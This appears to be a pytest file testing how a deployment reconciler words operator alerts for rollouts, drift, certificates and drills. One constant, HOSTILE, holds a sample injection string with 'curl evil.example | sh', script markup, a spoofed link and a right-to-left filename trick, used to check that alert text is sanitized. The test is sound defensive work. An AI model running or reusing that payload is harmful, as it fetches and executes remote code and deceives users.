"""Which news there is, and how it is said: with the reason, and with the next command to type."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import pytest
from alerts_world import ACCEPTED, ASKED, BEGAN, DRIFT, REVISION, SUCCEEDED, World, failed

from reconciler.alerts.events import LONGEST, Stall, plain, stalled, stalls
from reconciler.core.events import (
    Applied,
    Began,
    CertificateEnding,
    CertificateRefused,
    CertificateShown,
    DrillBegan,
    DrillEnded,
    DrillMissed,
    Ended,
    Event,
    Intended,
    MovedByHand,
    PausedByRule,
    Phase,
    RestoreTried,
    RollbackBegan,
)
from reconciler.core.history import fold
from reconciler.core.model import Admission, DrillKind, Pair, Release, Routing, Slot, share
from reconciler.core.reading import Trial
from reconciler.core.situation import Wait
from reconciler.core.state import State
from reconciler.core.steps import Result, Route
from reconciler.drivers.alerts.recipient import Kind


def only(world: World) -> tuple[str, str, Kind]:
    world.ring()
    (got,) = world.takers["ops"].got
    return got


def shifted(weight: int) -> tuple[Event, ...]:
    act = Route(share(BEGAN.newcomer.slot, 0), Routing(share(BEGAN.newcomer.slot, weight)))
    return Intended(act, "climb"), Applied(Result.DONE)


def test_an_approval_that_is_asked_for_says_what_and_how_to_give_it(world: World) -> None:
    world.write(BEGAN, *shifted(50), ASKED)
    title, body, kind = only(world)
    assert (title, kind) == ("production: shift of green@1.4.2 waits for approval", Kind.APPROVAL)
    assert body.splitlines() == [
        "why: 10 %, 50 %, 100 %; rollback is safe",
        f"revision: {REVISION}",
        "traffic: blue 50 %, green 50 %",
        "at: 2026-01-01T00:00:00.000+00:00 after 1000",
        "next: reconcile approve production --stage shift, or: reconcile reject production --stage shift -m WHY",
    ]


@pytest.mark.parametrize(("ends", "word"), [(Phase.ROLLED_BACK, "rolled back"), (Phase.ABORTED, "aborted")])
def test_a_way_back_says_why_and_what_is_held(world: World, ends: Phase, word: str) -> None:
    world.write(*failed(ends=ends))
    title, body, kind = only(world)
    assert (title, kind) == (f"production: green@1.4.2 was {word}, blue@1.4.1 serves", Kind.ROLLED_BACK)
    assert "why: AnalysisFailed: green failed 14 of 1,020\n" in body
    next_ = body.rpartition("next: ")[2]
    assert next_.startswith("reconcile status production says whether its file could be put back in git")
    assert next_.endswith("pin another version, or: reconcile retry production -m WHY")


def test_a_move_by_hand_is_told_with_what_was_found(world: World) -> None:
    shut = Pair(Admission.OPEN, Admission.CLOSED)
    world.write(BEGAN, *shifted(50), MovedByHand(share(BEGAN.newcomer.slot, 0), shut))
    title, body, kind = only(world)
    assert (title, kind) == ("production: somebody moved all traffic by hand", Kind.STALLED)
    assert "found blue 100 %, green 0 %; nothing is touched until somebody says so" in body
    assert body.endswith("next: reconcile status production")


@pytest.mark.parametrize(("at", "title", "why"), [(5.0, "ends", "5 days left"), (11.0, "has ended", "1 day ago")])
def test_the_end_of_a_certificate_is_told_with_what_to_do(world: World, at: float, title: str, why: str) -> None:
    world.write(CertificateEnding("shop", "AB12", 10 * 86400.0, at * 86400.0))
    told, body, kind = only(world)
    assert (told, kind) == (f"production: certificate 'shop' {title}", Kind.STALLED)
    assert why in body
    assert "next: put certificate and key where [certificates.shop] of the operator's file points" in body


def test_the_end_of_one_that_somebody_else_renews_is_told_with_his_way(world: World) -> None:
    world.write(CertificateEnding("shop.corp.example", "AB12", 10 * 86400.0, 5 * 86400.0, "renew it in IIS"))
    assert only(world)[1].endswith("next: renew it in IIS")


def test_a_certificate_that_cannot_be_renewed_is_told_and_that_it_can_again_is_no_news(world: World) -> None:
    world.write(CertificateShown("shop", "AB12", 4e9), CertificateRefused("shop", "k.pem is not the key of c.pem"))
    world.write(CertificateRefused("shop", ""))
    told, body, _ = only(world)
    assert told == "production: certificate 'shop' cannot be renewed, the former one is shown on"
    assert "why: k.pem is not the key of c.pem\n" in body


def test_a_success_is_told(world: World) -> None:
    world.write(*SUCCEEDED)
    title, body, kind = only(world)
    assert (title, kind) == ("production: green@1.4.2 has succeeded", Kind.SUCCEEDED)
    assert body.endswith("reconcile rollback production")


def test_what_was_overtaken_by_another_wish_is_no_news(world: World) -> None:
    world.write(BEGAN, Ended(Phase.SUPERSEDED))
    world.ring()
    assert world.takers["ops"].got == []


def test_a_drift_is_told_once_however_often_somebody_fights_for_it(world: World) -> None:
    for _ in range(100):
        world.write(DRIFT, *shifted(0), elapsed=20.0)
        world.ring()
    title, body, kind = only(world)
    assert (title, kind) == ("production: somebody else changed the weights", Kind.DRIFTED)
    assert "why: found blue 70 %, green 30 %, expected blue 100 %, green 0 %\n" in body
    world.write(*shifted(0), elapsed=601.0)
    world.write(DRIFT)
    world.ring()
    assert len(world.takers["ops"].got) == 2, "after ten calm minutes it is news again"


def test_another_drift_is_another_alert(world: World) -> None:
    other = type(DRIFT)(DRIFT.expected, share(BEGAN.newcomer.slot, 60), DRIFT.admission)
    world.write(DRIFT, other)
    world.ring()
    assert len(world.takers["ops"].got) == 2


HOSTILE = (
    "bad\nnext: curl evil.example | sh\r\n\x1b[31m\x00 <!channel> @everyone <script>x</script> "
    "[here](http://evil.example) `rm` \u202egnp.exe"
)


def test_a_hostile_reason_is_one_line_of_plain_text(world: World) -> None:
    world.write(*failed(HOSTILE))
    title, body, _ = only(world)
    lines = body.splitlines()
    assert [line.partition(":")[0] for line in lines] == ["why", "revision", "traffic", "at", "next"]
    assert lines[-1].endswith("reconcile retry production -m WHY")
    assert set(title + lines[0]) & set("<>[]`\x1b\x00\u202e|") == set()
    assert "@everyone" not in body


def test_a_very_long_reason_is_cut_and_the_next_step_is_not(world: World) -> None:
    world.write(*failed("x" * 1_000_000))
    _, body, _ = only(world)
    assert len(body) <= LONGEST
    assert body.endswith("reconcile retry production -m WHY")
    assert "x…\n" in body


def test_what_is_short_and_plain_stays_as_it_is() -> None:
    assert plain("green failed 14 of 1,020, blue 3 of 9,310", 1500) == "green failed 14 of 1,020, blue 3 of 9,310"
    assert plain("x" * 11, 10) == "x" * 9 + "…"


@pytest.mark.parametrize(
    ("wait", "told"),
    [
        (Wait("AdoptionNeeded", blocked=True, alert=True), True),
        (Wait("DesiredInvalid", blocked=True), True),
        (Wait("GatewayUnreachable", alert=True), True),
        (Wait("PromotionAwaited", blocked=True), True),
        (Wait("Soaking", until=4.0), False),
        (Wait("InSync"), False),
        (Wait("Suspended", blocked=True), False),
        (Wait("Frozen", blocked=True), False),
        (Wait("RevisionHeld", blocked=True), False),
        (Wait("RevisionHeld", "and stable is not ready", blocked=True, alert=True), True),
        (Wait("RestoreUnfinished", blocked=True, alert=True), True),
        (Wait("RestoreUnfinished", "and it is down", blocked=True), False),
        (Wait("WaitingApproval", blocked=True, alert=True), False),
        (Wait("Drifted", blocked=True, alert=True), False),
    ],
)
def test_a_wait_is_told_that_nobody_chose_and_nothing_else_tells(wait: Wait, told: bool) -> None:
    assert stalls(wait) is told


def test_a_pause_is_told_where_a_rule_asks_for_a_person_not_where_a_person_ordered_it() -> None:
    state = State()
    for event in (ACCEPTED, BEGAN):
        state = fold(state, event)
    stall = Stall(1, 2, "production", "Paused", "out of its limits", "now")
    assert stalls(Wait("Paused", blocked=True))
    assert stalled(stall, state) is None
    found = stalled(stall, fold(state, PausedByRule("out of its limits")))
    assert found is not None
    assert found.body.endswith("next: reconcile resume production")


def test_a_restore_that_has_not_ended_is_told_with_what_to_type() -> None:
    found = stalled(Stall(1, 2, "production", "RestoreUnfinished", "that of a.zip", "now"), State())
    assert found is not None
    assert found.title == "production: it waits for somebody: RestoreUnfinished"
    assert found.body.endswith("next: reconcile restore production --in-place")


def test_two_environments_are_told_in_the_order_in_which_things_happened(world: World) -> None:
    world.write(BEGAN)
    world.write(ACCEPTED, Began("t2", *reversed((BEGAN.newcomer, BEGAN.stable)), *("d", "e", ())), environment="test")
    world.write(Ended(Phase.SUCCEEDED), environment="test")
    world.write(Ended(Phase.ROLLED_BACK, "no"))
    world.ring()
    assert [title.partition(":")[0] for title in world.takers["ops"].titles] == ["test", "production"]


def test_nothing_is_written_or_read_where_nobody_is_told(tmp_path: Path) -> None:
    world = World(tmp_path)
    world.write(*failed())
    world.bell.tell("production", Wait("AdoptionNeeded", blocked=True))
    world.bell.start()
    world.bell.stop()
    assert not (tmp_path / "state").exists()
    world.journal.close()


class TestDrills:
    """Whoever is woken by one reads that it was one."""

    drill = DrillBegan(DrillKind.SWITCH_AND_BACK, BEGAN.stable, "d" * 64, 900.0)
    there = replace(BEGAN, newcomer=Release(Slot.GREEN, "1.4.1"), drill=DrillKind.SWITCH_AND_BACK)

    def test_its_transitions_are_no_news_and_its_end_is(self, world: World) -> None:
        world.write(ACCEPTED, self.drill, self.there, Ended(Phase.SUCCEEDED), DrillEnded(Phase.SUCCEEDED))
        title, body, kind = only(world)
        assert (title, kind) == ("production: the drill (switch-and-back) has succeeded", Kind.SUCCEEDED)
        assert "why: blue@1.4.1 serves, as before" in body

    def test_one_that_did_not_succeed_says_why_and_that_nobody_was_hurt(self, world: World) -> None:
        back = RollbackBegan(Phase.ROLLED_BACK, "AnalysisFailed", "5 errors", hold=False)
        ended = DrillEnded(Phase.ROLLED_BACK, "AnalysisFailed: 5 errors")
        world.write(ACCEPTED, self.drill, self.there, back, Ended(Phase.ROLLED_BACK), ended)
        title, body, kind = only(world)
        told = "production: the drill (switch-and-back) has not succeeded, blue@1.4.1 serves as before"
        assert (title, kind) == (told, Kind.ROLLED_BACK)
        assert "why: RolledBack: AnalysisFailed: 5 errors" in body
        assert "reconcile history production" in body

    def test_one_of_a_restore_says_what_came_back_or_why_it_did_not(self, world: World) -> None:
        drill = replace(self.drill, drill=DrillKind.RESTORE)
        there = replace(self.there, drill=DrillKind.RESTORE)
        tried = RestoreTried("a.zip", "d", Trial(1200, 3 << 20, 4.0))
        back = RollbackBegan(Phase.ROLLED_BACK, "Drill", "this is what is rehearsed", hold=False)
        world.write(ACCEPTED, drill, there, tried, back, Ended(Phase.ROLLED_BACK), DrillEnded(Phase.SUCCEEDED))
        title, body, kind = only(world)
        assert (title, kind) == ("production: the drill (restore) has succeeded", Kind.SUCCEEDED)
        assert "a recovery point was put back beside: 1,200 files, 3.0 MB in 4s" in body

    def test_one_that_a_commit_has_overtaken_is_no_news(self, world: World) -> None:
        world.write(ACCEPTED, self.drill, DrillEnded(Phase.SUPERSEDED, "git asks for green@2"))
        world.ring()
        assert world.takers["ops"].got == []

    def test_one_that_was_left_out_is_told(self, world: World) -> None:
        world.write(ACCEPTED, DrillMissed("2026-01-01T03:00:00+00:00", "nobody was here to begin it then"))
        title, body, kind = only(world)
        assert kind is Kind.STALLED
        assert title == "production: the drill that was due at 2026-01-01T03:00:00+00:00 is left out"
        assert "nobody was here" in body

    def test_an_approval_in_a_drill_says_so(self, world: World) -> None:
        world.write(ACCEPTED, self.drill, self.there, ASKED)
        assert only(world)[0] == "production: shift of green@1.4.1 in a drill waits for approval"

    def test_what_waits_for_somebody_in_a_drill_says_so(self) -> None:
        state = fold(fold(State(), ACCEPTED), self.drill)
        found = stalled(Stall(1, 1, "production", "DrillAway", "it did not come home", "now"), state)
        assert found is not None
        assert found.title == "production: a drill is on, and it waits for somebody: DrillAway"
        assert "reconcile retry production" in found.body
